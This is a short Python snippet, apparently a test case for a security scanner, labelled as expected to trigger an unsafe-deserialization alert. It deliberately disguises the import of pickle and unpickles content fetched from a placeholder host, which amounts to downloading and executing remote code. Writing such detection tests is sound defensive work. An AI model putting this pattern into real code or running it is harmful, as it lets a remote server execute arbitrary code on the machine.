import importlib
import requests

load = getattr(importlib.import_module("pic" + "kle"), "loads")
load(requests.get("https://acme.example/m").content) # expect: malicious-command/unsafe-deserialization
